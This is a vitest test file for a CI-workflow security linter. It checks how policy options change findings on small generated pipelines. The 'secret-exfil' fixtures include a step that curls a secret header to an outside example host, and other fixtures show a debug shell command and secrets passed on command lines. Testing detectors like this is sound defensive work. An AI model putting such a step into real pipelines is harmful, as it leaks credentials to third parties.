import { describe, expect, it } from "vitest";
import type { OptionValue } from "../../src/core/rule-option.ts";
import { policies } from "../../src/policies/registry.ts";
import { policyMatches } from "../support/policy-matches.ts";

const GITLAB = ".gitlab-ci.yml";
const CIRCLE = ".circleci/config.yml";

/** A workflow of one job that a push starts. */
const job = (body: string): string => `on: push\njobs:\n  build:\n${body.replaceAll(/^/gm, "    ")}\n`;
const run = (script: string, more = ""): string =>
  job(`runs-on: ubuntu-24.04\n${more}steps:\n  - run: |\n      ${script}\n    env: { KEY: "\${{ secrets.KEY }}" }`);
const deploy = (environment: string, secret = "KEY"): string =>
  job(`runs-on: x\nenvironment: ${environment}\nsteps: [{ run: ./a, env: { K: "\${{ secrets.${secret} }}" } }]`);
const container = (image: string): string =>
  job(`runs-on: x\ncontainer: ${image}\nenv: { K: "\${{ secrets.K }}" }\nsteps: [{ run: ./a "$K" }]`);
const artefact = (path: string): string =>
  job(`runs-on: x\nsteps: [{ uses: actions/upload-artifact@v4, with: { name: a, path: ${path} } }]`);
const cache = (path: string): string =>
  job(`runs-on: x\nsteps: [{ uses: actions/cache@v4, with: { key: a, path: ${path} } }]`);
const kept = (expiry: string): string =>
  `build:\n  script: ./a "$API_TOKEN"\n  artifacts: { paths: [out], expire_in: ${expiry} }\n`;
const wide = (steps: string): string =>
  job(`runs-on: x\nenv: { ACME_KEY: "\${{ secrets.ACME_KEY }}" }\nsteps:\n${steps}\n  - run: make`);
const contexts = (jobs: readonly string[]): string =>
  `version: 2.1\njobs: { ${jobs.map((name) => `${name}: { docker: [{ image: a }], steps: [checkout] }`).join(", ")} }\n` +
  `workflows: { w: { jobs: [${jobs.map((name) => `{ ${name}: { context: shared } }`).join(", ")}] } }\n`;

interface Case {
  readonly rule: string;
  readonly text: string;
  readonly path?: string;
  readonly set: Readonly<Record<string, OptionValue>>;
  /** How many matches there are without and with the option. */
  readonly found: readonly [number, number];
}

const hour = 3600;
const day = 24 * hour;

const CASES: readonly Case[] = [
  { rule: "expiry/long-token-ttl", text: run("vault token create -ttl=3h"), set: { longest: 4 * hour }, found: [1, 0] },
  { rule: "expiry/long-token-ttl", text: run("vault token create -ttl=1h"), set: { longest: 900 }, found: [0, 1] },
  {
    rule: "expiry/non-expiring-token-command",
    text: run("kubectl create token a --duration=240h"),
    set: { longest: 7 * day },
    found: [0, 1],
  },
  {
    rule: "artefact/artefact-no-expiry",
    path: GITLAB,
    text: kept("30 days"),
    set: { longest: 14 * day },
    found: [0, 1],
  },
  {
    rule: "artefact/artefact-no-expiry",
    path: GITLAB,
    text: kept("1 week"),
    set: { longest: 14 * day },
    found: [0, 0],
  },
  {
    rule: "artefact/artefact-no-expiry",
    path: GITLAB,
    text: kept("2 yrs"),
    set: { longest: 1000 * day },
    found: [1, 0],
  },
  {
    rule: "environment/deploy-from-any-branch",
    text: deploy("customers"),
    set: { production: ["cust*"] },
    found: [0, 1],
  },
  {
    rule: "environment/deploy-from-any-branch",
    text: deploy("production"),
    set: { other: ["production"] },
    found: [1, 0],
  },
  {
    rule: "environment/prod-secret-in-nonprod",
    text: deploy("staging", "BLUE_KEY"),
    set: { production: ["blue_*"] },
    found: [0, 1],
  },
  {
    rule: "unpinned/image-from-untrusted-registry",
    text: container("quay.io/a/b"),
    set: { registries: ["ghcr.io"] },
    found: [0, 1],
  },
  {
    rule: "unpinned/image-from-untrusted-registry",
    text: container("ghcr.io/a/b"),
    set: { registries: ["ghcr.io/a"] },
    found: [0, 0],
  },
  {
    rule: "unpinned/image-from-untrusted-registry",
    text: container("ghcr.io/ab/b"),
    set: { registries: ["ghcr.io/a"] },
    found: [0, 1],
  },
  {
    rule: "unpinned/image-from-untrusted-registry",
    text: container("node:24"),
    set: { registries: ["docker.io/library"] },
    found: [0, 0],
  },
  {
    rule: "unpinned/image-from-untrusted-registry",
    text: container("someone/tool"),
    set: { registries: ["docker.io"] },
    found: [1, 0],
  },
  {
    rule: "logs/secret-exfil",
    text: run('curl -H "K: $KEY" https://api.other.example/v1'),
    set: { hosts: ["*.acme.example"] },
    found: [0, 1],
  },
  {
    rule: "logs/secret-exfil",
    text: run('curl -H "K: $KEY" https://api.acme.example/v1'),
    set: { hosts: ["*.acme.example"] },
    found: [0, 0],
  },
  {
    rule: "logs/secret-exfil",
    text: run('curl -H "K: $KEY" "https://$HOST/v1"'),
    set: { hosts: ["*.acme.example"] },
    found: [0, 0],
  },
  {
    rule: "scope/pat-instead-of-job-token",
    text: job('runs-on: x\nsteps: [{ run: gh pr list, env: { GH_TOKEN: "${{ secrets.BOT }}" } }]'),
    set: { tokens: ["bot"] },
    found: [0, 1],
  },
  {
    rule: "artefact/artefact-includes-secret-path",
    text: artefact("config/app.lic"),
    set: { paths: ["*.lic"] },
    found: [0, 1],
  },
  {
    rule: "artefact/cache-includes-secret-path",
    text: cache("./config/master.txt"),
    set: { paths: ["config/master.txt"] },
    found: [0, 1],
  },
  { rule: "environment/debug-on-prod", text: run("open-shell --now"), set: { tools: ["open-*"] }, found: [0, 1] },
  {
    rule: "logs/debug-enabled",
    text: run("./a", "env: { ACME_TRACE: 1 }\n"),
    set: { variables: ["acme_trace"] },
    found: [0, 1],
  },
  {
    rule: "logs/debug-enabled",
    text: run("./a", "env: { ACME_TRACE: 0 }\n"),
    set: { variables: ["acme_trace"] },
    found: [0, 0],
  },
  {
    rule: "cmdline/password-flag",
    text: run('acme --db-handle "$KEY"'),
    set: { flags: ["--db-handle"] },
    found: [0, 1],
  },
  { rule: "cmdline/password-flag", text: run('acme --db-handle="$KEY"'), set: { flags: ["--db-*"] }, found: [0, 1] },
  {
    rule: "scope/secret-env-too-wide",
    text: wide('  - run: ./a "$ACME_KEY"\n  - run: ./b "$ACME_KEY"'),
    set: { readers: 2 },
    found: [0, 1],
  },
  { rule: "scope/secret-all-jobs-context", path: CIRCLE, text: contexts(["a", "b"]), set: { jobs: 3 }, found: [1, 0] },
  {
    rule: "scope/secret-all-jobs-context",
    path: CIRCLE,
    text: contexts(["a", "b", "c"]),
    set: { jobs: 3 },
    found: [1, 1],
  },
  {
    rule: "untrusted/own-machine",
    text: run("./a").replace("ubuntu-24.04", "[gpu-1]"),
    set: { labels: ["gpu-*"] },
    found: [0, 1],
  },
  {
    rule: "untrusted/self-hosted-fork",
    text: run("./a").replace("push", "pull_request").replace("ubuntu-24.04", "rack"),
    set: { labels: ["rack"] },
    found: [0, 1],
  },
  {
    rule: "untrusted/own-machine",
    path: GITLAB,
    text: "a: { tags: [rack], script: ./a $API_TOKEN }\n",
    set: { labels: ["rack"] },
    found: [0, 1],
  },
];

describe("an option of a policy", () => {
  it.each(CASES)("$rule $set", ({ rule, text, path, set, found }) => {
    const policy = policies.find(({ meta }) => meta.id === rule);
    if (policy === undefined) throw new Error("no such policy");
    expect(Object.keys(policy.meta.options ?? {})).toEqual(expect.arrayContaining(Object.keys(set)));
    const count = (options?: Case["set"]): number => policyMatches(policy, text, path, options).length;
    expect([count(), count(set)]).toEqual(found);
  });
});
